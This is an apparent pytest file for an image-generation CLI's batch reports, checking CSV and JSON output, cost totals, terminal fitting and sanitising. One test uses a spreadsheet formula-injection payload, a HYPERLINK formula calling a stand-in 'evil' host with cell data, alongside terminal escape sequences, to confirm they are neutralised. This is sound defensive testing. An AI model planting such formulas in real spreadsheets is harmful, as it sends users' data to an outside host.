"""The end of a batch: a summary for people, and a report that spreadsheets and programs read."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imgcli.core.batch_result import BatchRowResult, TaskOutcome, TaskStatus
from imgcli.core.errors import Charged, ExitCode, ImgcliError
from imgcli.output.batch_report import ReportFormat, report_bytes, report_format
from imgcli.output.tables.batch import rich_summary_lines, summary_lines
from imgcli.output.terminal.capabilities import ColorDepth, Terminal
from imgcli.output.text import cell_width

if TYPE_CHECKING:
    from collections.abc import Sequence

SAVED = TaskOutcome(TaskStatus.SAVED, "j", ("/home/me/a-cat.png",), Decimal("0.0421"), 21.25)
REFUSED = TaskOutcome(
    TaskStatus.FAILED_FREE,
    "j",
    kind="refused",
    exit_code=5,
    charged=Charged.NO,
    message="Refused:\n\x1b[2Jno.",
)
DAMAGED = TaskOutcome(
    TaskStatus.FAILED_CHARGED, "j", kind="damaged", charged=Charged.YES, cost=Decimal("0.05")
)
LOST = TaskOutcome(TaskStatus.UNKNOWN, "j", bound=Decimal("0.19"))
UNBOUND = TaskOutcome(TaskStatus.UNKNOWN, "j")
SUBMITTED = TaskOutcome(TaskStatus.SUBMITTED, batch="batch_1")
KOREAN = '고양이, "둘"\r\n그리고 하나'


def row(outcome: TaskOutcome | None, prompt: str = "a cat", **fields: Any) -> BatchRowResult:
    """Make a row of the third line."""
    return BatchRowResult(3, prompt, outcome, **fields)


def as_csv(*rows: BatchRowResult) -> list[dict[str, str]]:
    """Read a CSV report back, as other programs do."""
    text = report_bytes(rows, ReportFormat.CSV).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_json(*rows: BatchRowResult) -> list[dict[str, Any]]:
    """Read a JSON report back."""
    return json.loads(report_bytes(rows, ReportFormat.JSON))  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    ("name", "form"), [("a.csv", "csv"), ("/x/A.CSV", "csv"), ("r.json", "json"), ("my.report.Json", "json")]
)
def test_the_ending_decides(name: str, form: str) -> None:
    """A report's name says its format."""
    assert form == report_format(name)


@pytest.mark.parametrize("name", ["report", "a.tsv", "a.jsonl", ".csv", "a.csv.gz", "", "a.csv\x1b[2J"])
def test_other_endings(name: str) -> None:
    """A name with another ending is refused, before anything is sent."""
    with pytest.raises(ImgcliError) as caught:
        report_format(name)
    problem = caught.value.problem
    assert (ExitCode.USAGE, Charged.NO) == (problem.exit_code, problem.charged)
    assert "\x1b" not in problem.what
    assert ("report",) == problem.parameters


def test_a_saved_row() -> None:
    """A row tells where the image is, what it cost, and how long it took; nothing is in the other cells."""
    (found,) = as_csv(row(SAVED, id="first"))
    assert {
        "line": "3",
        "id": "first",
        "prompt": "a cat",
        "status": "saved",
        "path": "/home/me/a-cat.png",
        "cost_usd": "0.0421",
        "seconds": "21.25",
        "error_kind": "",
        "error_message": "",
        "charged": "",
    } == found
    (told,) = as_json(row(SAVED, id="first"))
    assert (0.0421, ["/home/me/a-cat.png"], None) == (told["cost_usd"], told["paths"], told["error_kind"])
    assert set(told) == {*found, "paths"}


@pytest.mark.parametrize(
    ("outcome", "told"),
    [
        (REFUSED, ("failed", "0", "refused", "Refused: \N{REPLACEMENT CHARACTER}[2Jno.", "no")),
        (DAMAGED, ("failed", "0.05", "damaged", "", "yes")),
        (LOST, ("unknown", "", "unknown", "Sent, but what came of it is unknown.", "maybe")),
        (SUBMITTED, ("submitted", "", "", "", "")),
        (None, ("left", "", "", "", "")),
    ],
)
def test_rows_without_an_image(outcome: TaskOutcome | None, told: tuple[str, ...]) -> None:
    """Every other row says why there is no image, and whether that may have cost something."""
    (found,) = as_csv(row(outcome))
    columns = ("status", "cost_usd", "error_kind", "error_message", "charged")
    assert told == tuple(found[column] for column in columns)


def test_every_script_and_every_line_break() -> None:
    """Korean, quotes, commas and line breaks come back as they were, in a spreadsheet too."""
    assert [KOREAN] == [found["prompt"] for found in as_csv(row(SAVED, KOREAN))]
    assert [KOREAN] == [found["prompt"] for found in as_json(row(SAVED, KOREAN))]
    assert report_bytes([row(SAVED, KOREAN)], ReportFormat.CSV).startswith(b"\xef\xbb\xbfline,id,")
    assert report_bytes([row(SAVED, KOREAN)], ReportFormat.JSON).isascii()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\N{FULLWIDTH EQUALS SIGN}"])
def test_no_cell_is_a_formula(start: str) -> None:
    """What a spreadsheet would run gets an apostrophe; a program that reads JSON gets the very text."""
    text = f'{start}HYPERLINK("http://evil/"&A1)'
    refused = REFUSED._replace(message=text)
    (found,) = as_csv(row(refused, text, id=text))
    assert [f"'{text}"] * 2 == [found["prompt"], found["id"]]
    assert found["error_message"][0] in "' "
    assert text == as_json(row(refused, text))[0]["prompt"]


@given(st.lists(st.text(st.characters(codec=None)), max_size=5))
def test_any_text(prompts: list[str]) -> None:
    """No prompt breaks the table, whatever is in it."""
    rows = [row(SAVED, prompt) for prompt in prompts]
    assert prompts == [found["prompt"] for found in as_json(*rows)]
    assert len(prompts) == len(as_csv(*rows))


def test_several_images_of_a_row() -> None:
    """A row that made several images names them all."""
    outcome = SAVED._replace(paths=("/a.png", "/a-2.png"))
    assert "/a.png\n/a-2.png" == as_csv(row(outcome))[0]["path"]
    assert ["/a.png", "/a-2.png"] == as_json(row(outcome))[0]["paths"]


EVERYTHING = [
    *[row(SAVED)] * 20,
    *[row(SAVED, is_earlier=True)] * 5,
    *[row(REFUSED)] * 2,
    row(DAMAGED),
    row(LOST),
    row(SUBMITTED),
    *[row(None)] * 3,
]


def plain(rows: Sequence[BatchRowResult], columns: int | None = None) -> str:
    """Format a summary of 200 seconds."""
    return "\n".join(summary_lines(rows, 200.0, columns))


def test_summary() -> None:
    """The summary counts what was saved, what failed and why, what is left, and adds up the money."""
    lines = [line.split("  ") for line in plain(EVERYTHING).splitlines()]
    cells = {line[0]: [cell.strip() for cell in line[1:] if cell.strip()] for line in lines}
    assert ["20", "$0.8420"] == cells["saved"]
    assert ["5", "$0.2105"] == cells["saved earlier"]
    assert ["2", "$0.00"] == cells["failed: refused"]
    assert ["1", "$0.0500"] == cells["failed: damaged"]
    assert ["1", "up to $0.1900"] == cells["unknown"]
    assert ["3"] == cells["not sent"]
    assert "33" == cells["total"][0]
    text = plain(EVERYTHING)
    assert "20 images saved in 3 min 20 s, 6.0 a minute; this run: " in text
    assert "5 images are left and have cost nothing: run the same command again." in text
    assert "2 requests may have been charged without an image: --retry-unknown repeats them." in text
    assert "1 image is in a batch at the server: `imgcli batch collect` saves it." in text


@pytest.mark.parametrize(
    ("rows", "total"),
    [
        ([], "$0.00"),
        ([SAVED], "$0.0421"),
        ([SAVED._replace(cost=Decimal(0))], "free"),
        ([SAVED, LOST], "$0.0421 to $0.2321"),
        ([SAVED, UNBOUND], "$0.0421+"),
        ([UNBOUND], "unknown"),
        ([LOST], "up to $0.1900"),
        ([REFUSED, None], "$0.00"),
    ],
)
def test_the_money_is_honest(rows: list[TaskOutcome | None], total: str) -> None:
    """An unknown cost is never taken for none: it counts up to its bound, or as a plus."""
    lines = summary_lines([row(outcome) for outcome in rows], 1.0)
    assert any(line.startswith("total") and line.endswith(f"  {total}") for line in lines), lines


def test_a_good_end_is_short() -> None:
    """When everything is saved there is nothing to be done, and nothing more is said."""
    assert ["1 image saved in 3 min 20 s", "in /home/me"] == plain([row(SAVED)]).splitlines()[-2:]


@pytest.mark.parametrize("columns", [24, 50, 80, 200])
def test_summary_fits(columns: int) -> None:
    """The summary fits a terminal: no line is broken by it, and 24 rows are enough at 80 columns."""
    kinds = [REFUSED._replace(kind=code.kind) for code in ExitCode]
    rows = [*EVERYTHING, *(row(one) for one in kinds)]
    terminal = Terminal(lambda: os.terminal_size((columns, 24)), ColorDepth.NONE)
    for line in [*summary_lines(rows, 200.0, columns), *rich_summary_lines(rows, 200.0, terminal, columns)]:
        text = re.sub(r"\x1b\[[0-9;]*m", "", line)
        assert columns < 50 or cell_width(text) <= columns
    assert 24 >= len(rich_summary_lines(EVERYTHING, 200.0, terminal, 80))


def test_foreign_text_is_cleaned() -> None:
    """A kind that a state file brings cannot write to the terminal."""
    assert "\x1b" not in plain([row(REFUSED._replace(kind="\x1b[2J" * 20))])
